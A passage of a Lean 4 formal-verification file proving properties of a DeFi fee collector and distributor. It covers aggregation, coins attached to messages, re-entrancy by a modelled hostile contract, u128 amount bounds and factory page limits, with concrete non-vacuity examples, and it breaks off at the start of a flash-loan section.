    (router : Nat → Nat → Nat → Nat) (acc : Nat → Nat → Nat) (inn : Nat) (sw : List (Nat × Nat × Nat))
    (h : aggregateFees cfg s sender f router acc = .ok (s', inn, sw)) :
    ((∃ lim, f = .vaultFactory lim) ∨ (∃ lim, f = .poolFactory lim)) ∧
    s'.bal cfg.dist = s.bal cfg.dist + inn ∧
    (∀ i, i ≠ cfg.dist →
      s'.bal i = s.bal i ∨ (s'.bal i = 0 ∧ AGG_T < s.bal i ∧ simOk s.pools (s.routes i) = true)) ∧
    s'.pools = addAcc acc 0 s.pools ∧ s'.vaults = s.vaults ∧
    s'.dao = s.dao ∧ s'.trh = s.trh ∧ s'.rate = s.rate ∧ s'.active = s.active ∧ s'.daoSet = s.daoSet ∧
    s'.routes = s.routes := by
  obtain ⟨cands, b, hc, hne, ha, hs'⟩ := aggregateFees_spec h
  obtain ⟨e0, f0⟩ := aggregate_spec _ _ _ _ _ _ _ _ _ _ hne ha
  subst hs'
  refine ⟨?_, e0, fun i hi => ?_, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩
  · cases f with
    | vaultFactory lim => exact Or.inl ⟨lim, rfl⟩
    | poolFactory lim => exact Or.inr ⟨lim, rfl⟩
    | wrongFactory => simp [aggCands] at hc
    | onePool k => simp [aggCands] at hc
    | oneVault k => simp [aggCands] at hc
  · cases f0 i hi with
    | inl u => exact Or.inl u
    | inr w => exact Or.inr ⟨w.1, w.2.1, w.2.2.1⟩

/-- `AggregateFees { Contracts {..} }` and a factory that cannot answer are rejected, whoever sends them -/
theorem direct_aggregate_rejects (cfg : Cfg) (s : St) (sender k : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) :
    aggregateFees cfg s sender (.onePool k) router acc = .err ∧
    aggregateFees cfg s sender (.oneVault k) router acc = .err ∧
    aggregateFees cfg s sender .wrongFactory router acc = .err :=
  ⟨rfl, rfl, rfl⟩

/-- on the joint machine the direct ops change nothing of the distributor, the bonders or the lair view -/
theorem direct_ops_leave_distributor (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (sender : Nat) (f : FeesFor)
    (router : Nat → Nat → Nat → Nat) (acc : Nat → Nat → Nat) :
    (Feeflow.step cfg s (.collect sender f) = .ok s' →
      s'.d = s.d ∧ s'.ub = s.ub ∧ s'.view = s.view ∧ s'.c.dao = s.c.dao ∧ s'.daoBal = s.daoBal) ∧
    (Feeflow.step cfg s (.aggregate sender f router acc) = .ok s' →
      s'.d = s.d ∧ s'.ub = s.ub ∧ s'.view = s.view ∧ s'.c.dao = s.c.dao ∧ s'.daoBal = s.daoBal) := by
  constructor
  · intro h
    simp only [Feeflow.step] at h
    cases hc : collectFees s.c sender f with
    | err => rw [hc] at h; cases h
    | panic => rw [hc] at h; cases h
    | ok c' =>
      rw [hc] at h; simp only at h; injection h with h; subst h
      exact ⟨rfl, rfl, rfl, (collectFees_rest hc).1, rfl⟩
  · intro h
    simp only [Feeflow.step] at h
    cases hc : aggregateFees (Feeflow.ccfg cfg s) (Feeflow.cview s) sender f router acc with
    | err => rw [hc] at h; cases h
    | panic => rw [hc] at h; cases h
    | ok pr =>
      obtain ⟨c', inn, sw⟩ := pr
      rw [hc] at h; simp only at h; injection h with h; subst h
      exact ⟨rfl, rfl, rfl, (direct_aggregate_only_converts _ _ _ _ _ _ _ _ _ hc).2.2.2.2.2.1, rfl⟩

/-! ### stray coins

  Any execute message can carry native coins (`info.funds`).  None of the collector's / distributor's entry
  points looks at them, so they stay on the contract the message was addressed to: `Feeflow.Op.coins payer a x op`
  is the bank's transfer followed by `op`, in one transaction.  `a` is ANY asset index — an asset of the world
  (also the distribution asset) or an unrelated denom.  Every history theorem over `Feeflow.Op` / `Feeflow.reach`
  (C09 `joint_histories`) covers these operations, since they are part of the alphabet. -/

/-- a message with coins attached is the bank's transfer to the receiving contract followed by the operation,
    atomically: if either fails, nothing happens -/
theorem coins_are_gift_then_op (cfg : Feeflow.Cfg) (s : Feeflow.St) (payer a x : Nat) (op : Feeflow.Op) :
    Feeflow.step cfg s (.coins payer a x op) =
      match Feeflow.pay cfg s payer a x (Feeflow.target op) with
      | .ok s1 => Feeflow.step cfg s1 op
      | .err => .err
      | .panic => .panic := by
  simp only [Feeflow.step]
  cases Feeflow.pay cfg s payer a x (Feeflow.target op) <;> rfl

/-- **stray_coins_stay_on_collector** — a `CollectFees` sent to the collector WITH COINS ATTACHED (`x` of any
    asset `a`, by anybody) succeeds only if the plain collection from the same state succeeds, leaves exactly
    the pending ledgers of the plain collection (what is collected does not change: no pair and no vault
    receives or keeps anything else), and every collector balance is the one after the plain collection
    plus the attached coins — i.e. balance before + collected + attached.  The coins are nowhere else: the
    distributor, the DAO, the router / lair balances are untouched; only the payer's balance falls. -/
theorem stray_coins_stay_on_collector (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (payer a x sender : Nat)
    (f : FeesFor) (h : Feeflow.step cfg s (.coins payer a x (.collect sender f)) = .ok s') :
    ∃ c0, collectFees s.c sender f = .ok c0 ∧
      s'.c.pools = c0.pools ∧ s'.c.vaults = c0.vaults ∧
      (∀ i, s'.c.bal i = c0.bal i + (if a = i then x else 0)) ∧
      (∀ i, s'.c.bal i = s.c.bal i + directCollected s.c f i + (if a = i then x else 0)) ∧
      (∀ i, s'.c.bal i + vaultsPending i s'.c.vaults + poolsPending i s'.c.pools =
            s.c.bal i + vaultsPending i s.c.vaults + poolsPending i s.c.pools + (if a = i then x else 0)) ∧
      s'.d = s.d ∧ s'.daoBal = s.daoBal ∧ s'.c.dao = s.c.dao ∧ s'.xb = s.xb ∧
      s'.ub = Feeflow.ubAfterPay cfg s payer a x := by
  simp only [Feeflow.step, Feeflow.target] at h
  cases hp : Feeflow.pay cfg s payer a x .collector with
  | err => rw [hp] at h; cases h
  | panic => rw [hp] at h; cases h
  | ok s1 =>
    rw [hp] at h; simp only at h
    have e1 := Feeflow.pay_collector_ok hp
    subst e1
    simp only at h
    cases hc : collectFees { s.c with bal := add s.c.bal a x } sender f with
    | err => rw [hc] at h; cases h
    | panic => rw [hc] at h; cases h
    | ok c' =>
      rw [hc] at h; simp only at h; injection h with h; subst h
      obtain ⟨c0, h0, hp, hv, hb, hdao, _⟩ := collectFees_gift hc
      obtain ⟨_, _⟩ := collectFees_spec h0 0
      refine ⟨c0, h0, hp, hv, hb, fun i => ?_, fun i => ?_, rfl, rfl, ?_, rfl, rfl⟩
      · have := hb i; have := (collectFees_spec h0 i).1; simp only at *; omega
      · have := hb i; have := collectFees_spec h0 i; simp only at *; rw [hp, hv]; omega
      · simp only; rw [hdao]; exact (collectFees_rest h0).1

/-- the same for the PIPELINE collection: coins attached to `NewEpoch` land on the distributor (the contract
    the message is addressed to) and change nothing of the run — the collector's state, the pending ledgers,
    the DAO's cut, the transferred amount `o`, the new epoch and every epoch ledger are those of the plain
    `NewEpoch` from the same state; the distributor's balance of the attached asset is larger by the gift
    (which belongs to no epoch) -/
theorem stray_coins_on_new_epoch (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (payer a x now : Nat)
    (router : Nat → Nat → Nat → Nat) (acc : Nat → Nat → Nat)
    (h : Feeflow.step cfg s (.coins payer a x (.newEpoch now router acc)) = .ok s') :
    ∃ s0 o, Feeflow.newEpoch cfg s now router acc = .ok (s0, o) ∧
      s'.c = s0.c ∧ s'.daoBal = s0.daoBal ∧ s'.d.epochs = s0.d.epochs ∧ s'.d.dist = s0.d.dist ∧
      (∀ i, s'.d.bal i = s0.d.bal i + Distributor.sel a i x) ∧ s'.xb = s0.xb ∧
      s'.ub = Feeflow.ubAfterPay cfg s payer a x := by
  simp only [Feeflow.step, Feeflow.target] at h
  cases hp : Feeflow.pay cfg s payer a x .distributor with
  | err => rw [hp] at h; cases h
  | panic => rw [hp] at h; cases h
  | ok s1 =>
    rw [hp] at h; simp only at h
    have e1 := Feeflow.pay_distributor_ok hp
    subst e1
    cases hn : Feeflow.newEpoch cfg { s with ub := Feeflow.ubAfterPay cfg s payer a x, d := Distributor.gift s.d a x }
        now router acc with
    | err => rw [hn] at h; cases h
    | panic => rw [hn] at h; cases h
    | ok pr =>
      obtain ⟨s1, o⟩ := pr
      rw [hn] at h; simp only at h; injection h with h; subst h
      obtain ⟨s0, h0, hc, hdao, he, _, _, hdi, hb, hub, _, _, hxb⟩ := Feeflow.newEpoch_gift hn
      exact ⟨s0, o, h0, hc, hdao, he, hdi, hb, hxb, hub⟩

/-- a bonder cannot attach what it does not hold, and coins attached to a failing operation are not lost:
    the transaction fails as a whole (`Res` carries no state) -/
theorem stray_coins_need_funds (cfg : Feeflow.Cfg) (s : Feeflow.St) (payer a x : Nat) (op : Feeflow.Op)
    (hu : payer < cfg.nusers) (ha : a < cfg.c.nassets) (hx : s.ub payer a < x) :
    Feeflow.step cfg s (.coins payer a x op) = .err := by
  simp only [Feeflow.step]
  cases ht : Feeflow.target op <;> simp only [Feeflow.pay] <;> rw [if_pos ⟨hu, ha, hx⟩]

/-! ### amounts across the whole u128 range; swaps that fail outside the model; re-entrancy -/

/-- **take_never_falls_back** — for EVERY collector balance a u128 can hold (the harness drives it up to 2^120, with
    scripted values around 2^64, 3.4e20 = u128::MAX / 10^18, 1e27, 2^100, 2^119) and every stored take rate (< 1),
    the active take rate yields exactly `⌊rate · B⌋`: `Uint128::checked_mul_floor` works in 256 bits and its result
    is at most `B`, so the `unwrap_or(0)` fallback of the reply is never taken. -/
theorem take_never_falls_back (s : St) (tb : Nat) (hrate : s.rate < E18) (htb : tb ≤ U128MAX)
    (hact : s.active = true ∧ s.rate ≠ 0 ∧ s.daoSet = true) :
    takeOf s tb = tb * s.rate / E18 ∧ takeOf s tb ≤ tb := by
  have h1 : tb * s.rate ≤ tb * E18 := Nat.mul_le_mul_left _ (Nat.le_of_lt hrate)
  have h2 : tb * s.rate / E18 ≤ tb * E18 / E18 := Nat.div_le_div_right h1
  rw [Nat.mul_div_cancel _ E18_pos] at h2
  have e : takeOf s tb = tb * s.rate / E18 := by
    simp only [takeOf]
    rw [if_pos hact, if_pos (Nat.le_trans h2 htb)]
  exact ⟨e, by rw [e]; exact h2⟩

/-- **xfail_fails_iff_swaps** — a `NewEpoch` / direct `AggregateFees` whose swap execution failed in the real
    transaction (`Op.xfail`: spread above the collector's 50 % cap, overflow in a pair — recorded, not modelled)
    succeeds iff the operation itself succeeds AND sends no swap message; then it is the plain operation. -/
theorem xfail_fails_iff_swaps (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (code : Nat) (op : Feeflow.Op) :
    Feeflow.step cfg s (.xfail code op) = .ok s' ↔
      (Feeflow.step cfg s op = .ok s' ∧ Feeflow.sendsSwaps cfg s op = false) := by
  constructor
  · intro h
    refine ⟨Feeflow.xfail_ok h, ?_⟩
    simp only [Feeflow.step] at h
    rw [Feeflow.xfail_ok h] at h
    simp only at h
    split at h
    · unfold Feeflow.failCode at h; split at h <;> cases h
    · rename_i hn; simpa using hn
  · intro ⟨h1, h2⟩
    simp only [Feeflow.step]
    rw [h1]; simp only
    rw [if_neg (by rw [h2]; decide)]

/-- **hooked_reply_splits_exactly** — whatever a hostile registered contract nested into the pipeline, the
    collector's reply at the end of a `NewEpoch` splits exactly what the collector holds of the (current)
    distribution asset at that moment: DAO cut + amount forwarded = that balance, nothing of it stays behind, the
    DAO's and the distributor's balances grow by exactly their parts, and `TMP_EPOCH` is consumed. -/
theorem hooked_reply_splits_exactly (h h' : Feeflow.HS) (e : Feeflow.replyH h = .ok h') :
    ∃ id start inflow, h.tmp = some (id, start) ∧ h'.tmp = none ∧
      takeOf h.s.c (h.s.c.bal h.s.d.dist) + Distributor.amt inflow = h.s.c.bal h.s.d.dist ∧
      h'.s.c.bal h.s.d.dist = 0 ∧
      h'.s.daoBal h.s.d.dist = h.s.daoBal h.s.d.dist + takeOf h.s.c (h.s.c.bal h.s.d.dist) ∧
      (∀ a, h'.s.d.bal a = h.s.d.bal a + Distributor.sel h.s.d.dist a (Distributor.amt inflow)) ∧
      (∀ i, i ≠ h.s.d.dist → h'.s.c.bal i = h.s.c.bal i ∧ h'.s.daoBal i = h.s.daoBal i) := by
  unfold Feeflow.replyH at e
  split at e
  · cases e
  · rename_i id start htmp
    split at e
    · rename_i hle
      split at e
      · rename_i d' hr
        injection e with e; subst e
        obtain ⟨_, tot, _, hd'⟩ := Distributor.receiveEpoch_spec hr
        subst hd'
        refine ⟨id, start, _, htmp, rfl, ?_, by simp [upd], by simp [Collector.add],
          fun a => Distributor.addAt_apply _ _ _ _, fun i hi => ⟨by simp [upd, hi], by simp [Collector.add, hi]⟩⟩
        split
        · rename_i h0; simp only [Distributor.amt]; omega
        · simp only [Distributor.amt]; omega
      · cases e
      · cases e
    · cases e

/-- **swap_funds_must_still_be_there** — an aggregation pass decides what to swap when its handler runs; if a nested
    message has meanwhile spent a planned balance (it aggregated it itself), the swap message's funds are missing
    and the whole transaction fails — a hostile contract cannot make the collector swap an asset twice. -/
theorem swap_funds_must_still_be_there (hk : Feeflow.Hook) (dist : Nat) (router : Nat → Nat → Nat → Nat) (stage : Nat)
    (i amt : Nat) (hops : List (Nat × Nat)) (rest : List (Nat × Nat × List (Nat × Nat))) (h : Feeflow.HS)
    (hlt : h.s.c.bal i < amt) : Feeflow.aggExecH hk dist router stage ((i, amt, hops) :: rest) h = .err := by
  unfold Feeflow.aggExecH
  rw [if_pos hlt]

/-! ### factory pages -/

/-- the documented page sizes: `ForwardFees` asks for 30 entries, which both factories grant (maximum
    30); without a limit a factory returns 10 (regenerated from the sources on every run; a changed
    constant breaks this obligation) -/
theorem page_limits_documented :
    FWD_LIMIT = some 30 ∧ poolPage FWD_LIMIT = 30 ∧ vaultPage FWD_LIMIT = 30 ∧
    poolPage none = 10 ∧ vaultPage none = 10 ∧ (∀ n, poolPage (some n) ≤ 30 ∧ vaultPage (some n) ≤ 30) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, fun n => ⟨?_, ?_⟩⟩
  · exact Nat.min_le_right _ _
  · exact Nat.min_le_right _ _

/-- **every_registered_collected** — with at most 30 registered pairs and at most 30 vaults (the page size
    `ForwardFees` asks for and the factories grant) EVERY registered pair and EVERY vault is on its
    factory's page at epoch creation, in whatever order they were created: all pending vault fees and
    every pending entry above the collectable minimum of every registered pair are collected, every
    vault is emptied, and a pair keeps only its sub-threshold entries (plus what the aggregation swaps
    accrued). -/
theorem every_registered_collected (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (hp : regCount s.pools ≤ 30) (hv : s.vaults.length ≤ 30)
    (h : forwardFees cfg s sender epochId router acc = .ok o) :
    (∀ p ∈ s.pools, fwdPools s p = p.reg) ∧ (∀ v ∈ s.vaults, fwdVaults s v = true) ∧
    (∀ i, collected s i = vaultsPending i s.vaults + poolsCollected (·.reg) i s.pools) ∧
    o.st.vaults = s.vaults.map (fun v => { v with pend := 0 }) ∧
    o.st.pools = addAcc acc 0 (poolsAfter (·.reg) s.pools) := by
  have hpl : ∀ p ∈ s.pools, fwdPools s p = p.reg :=
    poolListed_of_regCount_le (n := poolPage FWD_LIMIT) (by rw [page_limits_documented.2.1]; exact hp)
  have hvl : ∀ v ∈ s.vaults, fwdVaults s v = true :=
    vaultListed_of_length_le (n := vaultPage FWD_LIMIT) (by rw [page_limits_documented.2.2.1]; exact hv)
  obtain ⟨hva, hpa⟩ := pending_after cfg s sender epochId router acc o h
  refine ⟨hpl, hvl, fun i => ?_, ?_, ?_⟩
  · simp only [collected]
    rw [vaultsCollected_all i s.vaults hvl, poolsCollected_congr i s.pools hpl]
  · rw [hva, vaultsAfter_all s.vaults hvl]
  · rw [hpa, poolsAfter_congr s.pools hpl]

/-- the documented thresholds: a pair sends pending entries above 1000, the collector swaps balances
    above 1000 (regenerated from the sources on every run; a changed constant breaks this obligation) -/
theorem thresholds_documented : PAIR_T = 1000 ∧ AGG_T = 1000 := by decide

/-! ### non-vacuity -/

def cfg0 : Cfg := { dist := 2, nassets := 3, distributor := 2000, owner := 1000 }

/-- two pairs (uatom/uwhale with 5000 uatom + 1000 uwhale pending, uusdc/uwhale with 1001 uwhale pending),
    a uwhale vault with 7 pending and a uusdc vault with 2500 pending; the collector already holds 40 uwhale;
    route for uusdc only; take rate 10 % active with a DAO. -/
def st0 : St :=
  { bal := fun i => if i = 2 then 40 else 0, rate := 100000000000000000, active := true, daoSet := true, dao := 0, trh := [],
    pools := [ { a := 0, b := 2, reg := true, on := true, pa := 5000, pb := 1000 },
               { a := 1, b := 2, reg := true, on := true, pa := 0, pb := 1001 } ],
    vaults := [ { asset := 2, pend := 7 }, { asset := 1, pend := 2500 } ],
    routes := fun i => if i = 1 then [(1, 2)] else [] }

/-- uusdc (2500 > 1000, routed) is swapped in the vault pass for 2400; uatom (5000, no route) is untouched;
    the pair's 1000 uwhale stays pending, 1001 is collected: B = 40 + 7 + 1001 + 2400 = 3448,
    DAO gets ⌊344.8⌋ = 344, the distributor 3104. -/
def out0 : Option Out := (forwardFees cfg0 st0 2000 5 (fun _ _ _ => 2400) (fun _ _ => 0)).toOption

example : out0.map (fun o => (o.take, o.inflow, o.base, o.swappedIn)) = some (344, some 3104, 3448, 2400) := by decide
example : out0.map (fun o => o.swaps) = some [(0, 1, 2500)] := by decide
example : out0.map (fun o => (o.st.bal 0, o.st.bal 1, o.st.bal 2, o.st.dao)) = some (5000, 0, 0, 344) := by decide
example : out0.map (fun o => o.st.trh) = some [(5, 344)] := by decide
example : out0.map (fun o => (o.st.pools.map (fun p => (p.pa, p.pb)), o.st.vaults.map (·.pend))) =
    some ([(0, 1000), (0, 0)], [0, 0]) := by decide

/-- the same state after the owner switched the distribution asset to uusdc (1), with a route uwhale → uusdc:
    the pipeline now runs TOWARDS uusdc — the collector's uwhale (40 + 7 + 1001 = 1048 > 1000) is swapped
    in the vault pass for 1000 uusdc, the 2500 uusdc of the vault are the distribution asset itself:
    B = 3500, DAO 350, distributor 3150 — all in uusdc; uatom (no route) stays. -/
def out1 : Option Out :=
  (forwardFees { cfg0 with dist := 1 } { st0 with routes := fun i => if i = 2 then [(2, 1)] else [] } 2000 5
    (fun _ _ _ => 1000) (fun _ _ => 0)).toOption

example : out1.map (fun o => (o.take, o.inflow, o.base, o.swappedIn)) = some (350, some 3150, 3500, 1000) := by decide
example : out1.map (fun o => o.swaps) = some [(0, 2, 1048)] := by decide
example : out1.map (fun o => (o.st.bal 0, o.st.bal 1, o.st.bal 2)) = some (5000, 0, 0) := by decide

/-- a stranger is rejected; a route through a pair with swaps disabled fails the whole operation -/
example : (forwardFees cfg0 st0 1002 5 (fun _ _ _ => 2400) (fun _ _ => 0)).isOk = false := by decide
example : (forwardFees cfg0 { st0 with pools := st0.pools.map fun p => { p with on := false } } 2000 5
    (fun _ _ _ => 2400) (fun _ _ => 0)).isOk = false := by decide

/-- direct ops on `st0`, sent by a stranger (1002): `CollectFees` for the pool factory moves the 5000 uatom
    and the 1001 uwhale, the 1000 uwhale stay pending; for the vault factory the 2500 uusdc and 7 uwhale;
    naming pair 0 as a contract moves only its 5000 uatom -/
example : ((collectFees st0 1002 (.poolFactory (some 30))).toOption.map fun s => (s.bal 0, s.bal 1, s.bal 2, s.dao)) =
    some (5000, 0, 1041, 0) := by decide
example : ((collectFees st0 1002 (.poolFactory (some 30))).toOption.map fun s =>
    (s.pools.map (fun p => (p.pa, p.pb)), s.vaults.map (·.pend))) = some ([(0, 1000), (0, 0)], [7, 2500]) := by decide
example : ((collectFees st0 1002 (.vaultFactory (some 30))).toOption.map fun s => (s.bal 0, s.bal 1, s.bal 2)) =
    some (0, 2500, 47) := by decide
example : ((collectFees st0 1002 (.vaultFactory (some 30))).toOption.map fun s =>
    (s.pools.map (fun p => (p.pa, p.pb)), s.vaults.map (·.pend))) = some ([(5000, 1000), (0, 1001)], [0, 0]) := by decide
example : ((collectFees st0 1002 (.onePool 0)).toOption.map fun s =>
    (s.bal 0, s.bal 1, s.bal 2, s.pools.map (fun p => (p.pa, p.pb)))) =
    some (5000, 0, 40, [(0, 1000), (0, 1001)]) := by decide
example : (collectFees st0 1002 (.onePool 9)).isOk = false ∧ (collectFees st0 1000 .wrongFactory).isOk = false := by decide

/-- after the vault collection a direct `AggregateFees` (vault factory) swaps the 2500 uusdc for 2400 uwhale,
    which stay in the collector: nothing for the DAO although the take rate is active -/
def agg0 : Option (St × Nat × List (Nat × Nat × Nat)) :=
  (collectFees st0 1002 (.vaultFactory (some 30))).toOption.bind fun s =>
    (aggregateFees cfg0 s 1002 (.vaultFactory (some 30)) (fun _ _ _ => 2400) (fun _ _ => 0)).toOption
example : agg0.map (fun r => (r.1.bal 0, r.1.bal 1, r.1.bal 2, r.1.dao)) = some (0, 0, 2447, 0) := by decide
example : agg0.map (fun r => (r.1.trh, r.2.1, r.2.2)) = some ([], 2400, [(0, 1, 2500)]) := by decide
example : (aggregateFees cfg0 st0 1000 (.onePool 0) (fun _ _ _ => 0) (fun _ _ => 0)).isOk = false := by decide

/-! ### non-vacuity of the stray-coin theorems -/

def jcfg : Feeflow.Cfg := { d := { genesis := 1000, duration := 100, owner := 1000 }, c := cfg0, nusers := 5 }

/-- the joint state around `st0`; bonder 1 holds 300 of asset 0 -/
def jst : Feeflow.St :=
  { d := Distributor.St.init 2 2, c := st0, view := fun _ => none,
    ub := fun u a => if u = 1 ∧ a = 0 then 300 else 0, daoBal := fun _ => 0, rts := fun _ _ => [],
    xb := fun _ _ => 0 }

/-- the stranger (1002) sends `CollectFees` for the pool factory with 77 uatom AND 5 of an unrelated denom
    (index 3) attached: the collection moves the 5000 uatom and the 1001 uwhale as without coins
    (`st0` examples above), the pending ledgers are the same, the coins are on the collector -/
example : ((Feeflow.step jcfg jst (.coins 1002 0 77 (.coins 1002 3 5 (.collect 1002 (.poolFactory (some 30)))))).toOption.map
    fun s => (s.c.bal 0, s.c.bal 1, s.c.bal 2, s.c.bal 3)) = some (5077, 0, 1041, 5) := by decide
example : ((Feeflow.step jcfg jst (.coins 1002 0 77 (.coins 1002 3 5 (.collect 1002 (.poolFactory (some 30)))))).toOption.map
    fun s => (s.c.pools.map (fun p => (p.pa, p.pb)), s.c.vaults.map (·.pend))) =
    some ([(0, 1000), (0, 0)], [7, 2500]) := by decide

/-- bonder 1 can attach the 300 uatom it holds (they leave its balance), not 301; coins attached to a
    rejected message (a pair that does not exist) are not taken -/
example : ((Feeflow.step jcfg jst (.coins 1 0 300 (.collect 1 (.onePool 0)))).toOption.map fun s => (s.ub 1 0, s.c.bal 0)) =
    some (0, 5300) := by decide
example : (Feeflow.step jcfg jst (.coins 1 0 301 (.collect 1 (.onePool 0)))).isOk = false ∧
    (Feeflow.step jcfg jst (.coins 1 0 300 (.collect 1 (.onePool 9)))).isOk = false := by decide

/-- coins attached to `NewEpoch` (now = 1000 = genesis) stay on the distributor and belong to no epoch: the
    pipeline forwards 3104 uwhale as in `out0`, the distributor then holds 3104 + 50 uwhale and 9 of the
    unrelated denom; the new epoch's total is the 3104 -/
example : ((Feeflow.step jcfg { jst with rts := fun ask offer => if ask = 2 ∧ offer = 1 then [(1, 2)] else [] }
      (.coins 1000 2 50 (.coins 1000 3 9 (.newEpoch 1000 (fun _ _ _ => 2400) (fun _ _ => 0))))).toOption.map
    fun s => (s.d.bal 2, s.d.bal 3, s.c.bal 2, s.daoBal 2)) = some (3154, 9, 0, 344) := by decide
example : ((Feeflow.step jcfg { jst with rts := fun ask offer => if ask = 2 ∧ offer = 1 then [(1, 2)] else [] }
      (.coins 1000 2 50 (.coins 1000 3 9 (.newEpoch 1000 (fun _ _ _ => 2400) (fun _ _ => 0))))).toOption.map
    fun s => s.d.epochs.map (·.total)) = some [[(2, 3104)]] := by decide

/-! ### non-vacuity of the re-entrancy model -/

/-- `jst` with a third registered pair uatom/uusdc that is the hostile contract (no fees, ever); its key `(0, 1)` is
    the first of the pool factory's listing -/
def jstH : Feeflow.St :=
  { jst with c := { st0 with pools := st0.pools ++ [{ a := 0, b := 1, reg := true, on := true, pa := 0, pb := 0 }] } }

def r0 : Nat → Nat → Nat → Nat := fun _ _ _ => 0
def a0 : Nat → Nat → Nat := fun _ _ => 0
def noAcc : Nat → Nat → Nat → List (Nat × Nat × Nat) := fun _ _ _ => []

/-- the plain `NewEpoch` at genesis forwards 40 + 7 + 1001 + 5000·0 … = 1048 uwhale − 10 % -/
example : ((Feeflow.step jcfg jstH (.newEpoch 1000 r0 a0)).toOption.map fun s => (s.d.bal 2, s.daoBal 2, s.c.bal 2)) =
    some (944, 104, 0) := by decide

/-- a `NewEpoch` nested into it from the hostile pair's `CollectProtocolFees` — plainly or caught — makes the whole
    transaction fail (`nested_new_epoch_refused`): the nested run consumed `TMP_EPOCH` -/
example : (Feeflow.step jcfg jstH (.reenter (.poolCollect 2) false noAcc (.newEpoch 1000 r0 a0) (.newEpoch 1000 r0 a0))).isOk = false ∧
    (Feeflow.step jcfg jstH (.reenter (.poolCollect 2) true noAcc (.newEpoch 1000 r0 a0) (.newEpoch 1000 r0 a0))).isOk = false := by
  decide

/-- a nested `ForwardFees` is refused (the sender is not the distributor): not caught, the transaction fails; caught,
    it leaves no trace — the result is the plain `NewEpoch`'s, and the hooked run reports `fired = 2` -/
example : (Feeflow.step jcfg jstH (.reenter (.poolCollect 2) false noAcc (.fwd 5) (.newEpoch 1000 r0 a0))).isOk = false := by
  decide
example : ((Feeflow.step jcfg jstH (.reenter (.poolCollect 2) true noAcc (.fwd 5) (.newEpoch 1000 r0 a0))).toOption.map
      fun s => (s.d.bal 2, s.daoBal 2, s.c.bal 2)) = some (944, 104, 0) := by decide
example : ((Feeflow.step jcfg jstH (.reenter (.poolCollect 2) true noAcc (.fwd 5) (.newEpoch 1000 r0 a0))).toOption.map
      fun s => s.d.epochs.map (·.total)) = some [[(2, 944)]] := by decide

example : ((Feeflow.stepH jcfg { trig := .poolCollect 2, caught := true, clears := false, run := (fun s1 => Feeflow.step jcfg s1 (.fwd 5)), hacc := noAcc }
      jstH (.newEpoch 1000 r0 a0)).map fun r => r.toOption.map fun h => (h.fired, h.armed, h.tmp)) =
    some (some (2, false, none)) := by decide

/-- a nested direct `CollectFees` (permissionless) goes through (`fired = 1`) and changes nothing of the outcome:
    the pipeline would have collected the same fees anyway -/
example : ((Feeflow.stepH jcfg { trig := .poolCollect 2, caught := false, clears := false, run := (fun s1 => Feeflow.step jcfg s1 (.collect 5 (.poolFactory (some 30)))), hacc := noAcc }
      jstH (.newEpoch 1000 r0 a0)).map fun r => r.toOption.map fun h => (h.fired, h.s.d.bal 2, h.s.daoBal 2, h.s.c.bal 2)) =
    some (some (1, 944, 104, 0)) := by decide

/-- a `NewEpoch` nested into a directly sent `CollectFees` is simply a `NewEpoch` (no outer `TMP_EPOCH` is involved) -/
example : ((Feeflow.step jcfg jstH (.reenter (.poolCollect 2) false noAcc (.newEpoch 1000 r0 a0) (.collect 1002 (.poolFactory (some 30))))).toOption.map
    fun s => (s.d.bal 2, s.daoBal 2, s.c.bal 2, s.d.epochs.map (·.id))) = some (944, 104, 0, [1]) := by decide

/-! ### non-vacuity of the page theorems -/

/-- 12 vaults, one per asset 0 … 11, CREATED in descending asset order (asset 11 first) with 100 + asset
    pending each; 12 registered pairs `(k+3) / 2`, k = 11 … 0 in creation order, with 2000 + k pending in
    asset `k+3`.  The factories list in key order: the vault of asset 0 first; pair keys `(2,3) (2,4) …` -/
def vs12 : List Vault := (List.range 12).reverse.map fun a => { asset := a, pend := 100 + a }
def ps12 : List Pool :=
  (List.range 12).reverse.map fun k => { a := k + 3, b := 2, reg := true, on := true, pa := 2000 + k, pb := 0 }
def st12 : St := { st0 with pools := ps12, vaults := vs12, routes := fun _ => [], bal := fun _ => 0 }
def cfg12 : Cfg := { cfg0 with nassets := 15 }

example : regCount st12.pools ≤ 30 ∧ st12.vaults.length ≤ 30 ∧ regCount st12.pools = 12 := by decide

/-- `ForwardFees` (page of 30) empties all 12 vaults and collects all 12 pairs … -/
example : ((forwardFees cfg12 st12 2000 5 (fun _ _ _ => 0) (fun _ _ => 0)).toOption.map fun o =>
    (o.st.vaults.map (·.pend), o.st.pools.map (·.pa))) =
    some ([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]) := by decide

/-- **default_page_misses_the_eleventh** … whereas a page without a limit (the factories' default of 10)
    stops after the 10 smallest KEYS: the vaults of assets 10 and 11 and the pairs `13/2`, `14/2` — the
    FIRST ones created — keep their pending fees. -/
theorem default_page_misses_the_eleventh :
    ((collectFees st12 1002 (.vaultFactory none)).toOption.map fun s => s.vaults.map (·.pend)) =
      some [111, 110, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] ∧
    ((collectFees st12 1002 (.poolFactory none)).toOption.map fun s => s.pools.map (·.pa)) =
      some [2011, 2010, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] ∧
    ((collectFees st12 1002 (.poolFactory (some 11))).toOption.map fun s => s.pools.map (·.pa)) =
      some [2011, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] ∧
    ((collectFees st12 1002 (.poolFactory (some 99))).toOption.map fun s => s.pools.map (·.pa)) =
      some [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] := by decide

/-! ### the pipeline from inside a flash-loan callback (`Feeflow.Op.inloan`)

  `NewEpoch`, `CollectFees` and `AggregateFees` are permissionless: the borrower of a flash loan on a registered vault can
  send them from its callback, while the vault's loan counter is 1 and its balance is down by the loan.  The model
  (`WW/Model/Feeflow.lean`, header) is the real vault's behaviour: `collect_protocol_fees` ignores the loan counter and
